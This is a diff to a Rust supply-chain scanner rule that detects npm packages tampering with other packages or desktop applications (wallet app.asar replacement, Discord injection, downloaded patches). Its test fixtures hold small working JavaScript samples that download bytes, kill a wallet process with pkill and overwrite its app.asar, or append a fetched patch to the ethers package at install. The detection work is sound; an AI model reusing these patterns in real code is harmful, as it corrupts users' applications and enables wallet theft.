@@ -20,12 +20,17 @@ diligence_finding::declare_rule! {
     /// walking up to `node_modules/ethers`, a `patch(file)` helper): install- or load-time JavaScript that builds a
     /// path into another package's folder (`'node_modules', 'ethers'`) and, in one function, reads a file and
     /// writes it back through the same path (patching): high, critical at install when the file also carries
-    /// encoded code. A write whose path ends in a project's registry configuration or lockfile (`.npmrc`,
+    /// encoded code or downloads (the patch is fetched, not shipped). A write whose path ends in a project's registry configuration or lockfile (`.npmrc`,
     /// `.yarnrc`, `package-lock.json`, `npm-shrinkwrap.json`, `yarn.lock`, `pnpm-lock.yaml`, `bun.lock`) under a
     /// folder computed at run time (a root found by walking up from `INIT_CWD`, passed as a parameter), or a
     /// `~/.npmrc` write: critical at install, high at load. Wherever it runs: content read from a desktop wallet
     /// application's folder (Exodus, Atomic, Electrum) that value flow follows into a file write — the wallet's
-    /// `app.asar` rebuilt with injected code, or its files staged for theft: critical.
+    /// `app.asar` rebuilt with injected code, or its files staged for theft: critical. Whenever it runs (an API
+    /// call is enough): a write to another desktop application's code — an Electron `.asar` archive, a file
+    /// inside a macOS bundle (`X.app/Contents/…`), Discord's `discord_desktop_core` — in a file that names where
+    /// other applications are installed (`/Applications/X.app`, `%LOCALAPPDATA%\Programs`, a `.app` bundle
+    /// name): high; critical when the same file downloads (the replacement comes from the network) or kills a
+    /// process by name (`taskkill /IM`, `pkill`, `killall`: the running application must let go of its files).
     ///
     /// ## Why it matters
     /// ethers-provider2 and ethers-providerz (2025) looked harmless themselves: their install script patched the
@@ -46,7 +51,9 @@ diligence_finding::declare_rule! {
     /// project at install: low. Writes inside the package's own folder (`__dirname/../dist`) are not reported; nor
     /// is reading another package's `package.json` (a peer version check) next to writes of the package's own files.
     /// Electron packagers (`@electron/asar`, electron-builder) write `app.asar` files they build, from the
-    /// project's own sources, not from a wallet application's folder.
+    /// project's own sources, not from a wallet application's folder, and name no installed application's folder.
+    /// An Electron app's self-updater replaces its own archive under `process.resourcesPath` or
+    /// `app.getAppPath()`: a file that builds its path from either is not reported by that arm.
     /// Lockfile repair tools (`npm-force-resolutions`, `yarn-deduplicate`) rewrite the project's lockfile when the user
     /// runs their `bin` or calls their API, which is neither install time nor load time: not reported.
     pub static PACKAGE_TAMPER = { id: "code/package-tamper", severity: Severity::Critical };
@@ -103,6 +110,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::FsRead, Kind::Network]),
         ));
     }
+    out.extend(p.files.iter().filter_map(|f| other_application(p, f)));
     // Content read from a desktop wallet application's folder written to a file: the
     // application's own code patched (a clipper injected into its `app.asar`), or its wallet
     // staged for theft.
@@ -122,6 +130,74 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         ));
     }
     out
+}
+
+/// A write into another desktop application's code (an `.asar` archive, a macOS bundle's
+/// contents, `discord_desktop_core`) in a file that names where applications are installed:
+/// the 2025 pdf-to-office / nodejs-smtp Atomic and Exodus `app.asar` replacement, Discord
+/// client injection. Reported whenever the code runs: one API call is enough.
+fn other_application(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
+    if f.kind != FileKind::JavaScript || super::is_bundle(f) {
+        return None;
+    }
+    let hit = f
+        .of(Kind::OtherPackage)
+        .find(|s| s.detail.starts_with("application|"))?;
+    let text = f.text.as_deref().unwrap_or("");
+    // An Electron app updating its own archive.
+    if text.contains("resourcesPath") || text.contains("getAppPath") {
+        return None;
+    }
+    let installed = [
+        ".app/Contents",
+        "/Applications",
+        "'Programs'",
+        "\"Programs\"",
+        "\\Programs\\",
+        "discord_desktop_core",
+        ".app'",
+        ".app\"",
+    ];
+    if !installed.iter().any(|m| text.contains(m)) {
+        return None;
+    }
+    let download = f.has(Kind::Network);
+    let kill = f.of(Kind::Spawn).any(|s| {
+        let line = f.snippet(s.line).to_ascii_lowercase();
+        line.contains("taskkill") || line.contains("pkill") || line.contains("killall")
+    });
+    let severity = if download || kill {
+        PACKAGE_TAMPER.default_severity
+    } else {
+        Severity::High
+    };
+    let what = hit.detail.trim_start_matches("application|");
+    let mut why = Vec::new();
+    if download {
+        why.push("the file downloads");
+    }
+    if kill {
+        why.push("kills a running application");
+    }
+    let why = if why.is_empty() {
+        String::new()
+    } else {
+        format!("; {}", why.join(" and "))
+    };
+    Some(finding(
+        &PACKAGE_TAMPER,
+        severity,
+        f,
+        hit,
+        Locality::Function,
+        format!("writes into another application's code (`{what}`){why}"),
+        chain(
+            p,
+            f,
+            hit,
+            &[Kind::Network, Kind::Spawn, Kind::CredentialPath],
+        ),
+    ))
 }
 
 /// Desktop wallet applications whose install or data folders no package has reason to write.
@@ -159,12 +235,18 @@ fn patched<'f>(
         !own_file(s) && (f.install_time || loaded && super::at_load::at_load(imported, f, s))
     })?;
     let encoded = f.has_any(&[Kind::HiddenCode, Kind::DecodeExec]);
-    let severity = if encoded && f.install_time {
+    // What is spliced in comes from the network: the package ships no patch to review.
+    let downloaded = f.has(Kind::Network);
+    let severity = if (encoded || downloaded) && f.install_time {
         PACKAGE_TAMPER.default_severity
     } else {
         Severity::High
     };
-    let extra = if encoded { ", with encoded code" } else { "" };
+    let extra = match (encoded, downloaded) {
+        (true, _) => ", with encoded code",
+        (false, true) => ", in a file that downloads",
+        _ => "",
+    };
     Some((
         severity,
         write,
@@ -215,6 +297,46 @@ mod tests {
     use crate::Verdict;
     use crate::rules::test_util::{PJ, hits, scan};
     use diligence_finding::Severity;
+
+    /// A converter's API replaces a wallet application's `app.asar` with downloaded bytes after
+    /// killing it: reported though nothing runs at install or load.
+    #[test]
+    fn positive_api_replaces_other_application_asar() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nconst { execSync } = require('child_process');\nconst res = path.join('/Applications', 'Wallet.app', 'Contents', 'Resources');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => ok(Buffer.concat(b))); })); }\nexports.convert = async (dir = res) => {\n  const asar = path.join(dir, 'app.asar');\n  const bytes = await get('https://example.com/rt.bin');\n  try { execSync('pkill -x Wallet', { stdio: 'ignore' }); } catch (e) {}\n  fs.writeFileSync(asar, bytes);\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/package-tamper"),
+            vec![("index.js".to_string(), 11)]
+        );
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/package-tamper"),
+            Some(Severity::Critical)
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// An Electron packager writes the `app.asar` it builds into the project's output folder,
+    /// and a self-updater replaces its own archive under `process.resourcesPath`.
+    #[test]
+    fn negative_packager_and_self_updater_asar() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "pack.js",
+                "const fs = require('fs');\nconst path = require('path');\nexports.pack = (outDir, buf) => fs.writeFileSync(path.join(outDir, 'resources', 'app.asar'), buf);\n",
+            ),
+            (
+                "update.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nexports.update = (url) => https.get(url, (r) => { const b = []; r.on('data', (c) => b.push(c)); r.on('end', () => fs.writeFileSync(path.join(process.resourcesPath, 'app.asar'), Buffer.concat(b))); });\n// macOS: /Applications/Self.app/Contents/Resources\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/package-tamper").is_empty());
+    }
 
     const PJ_POST: &str = "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node scripts/fix.js\"}}";
 
@@ -423,6 +545,26 @@ exports.pack = function (src, out) {
         assert_eq!(
             crate::rules::test_util::severity(&s, "code/package-tamper"),
             Some(Severity::High)
+        );
+    }
+
+    /// The same finder and patch, with the patch downloaded at install: critical.
+    #[test]
+    fn positive_finder_and_downloaded_patch() {
+        let s = scan(&[
+            ("package.json", PJ_POST),
+            (
+                "scripts/fix.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nfunction find(d) {\n  for (let i = 0; i < 6; i++) { const c = path.join(d, 'node_modules', 'ethers'); if (fs.existsSync(c)) return c; d = path.dirname(d); }\n}\nhttps.get('https://example.com/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => {\n  const file = path.join(find(process.cwd()), 'lib', 'index.js');\n  const src = fs.readFileSync(file, 'utf8');\n  fs.writeFileSync(file, src + b);\n}); });\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/package-tamper"),
+            vec![("scripts/fix.js".to_string(), 10)]
+        );
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/package-tamper"),
+            Some(Severity::Critical)
         );
     }
 
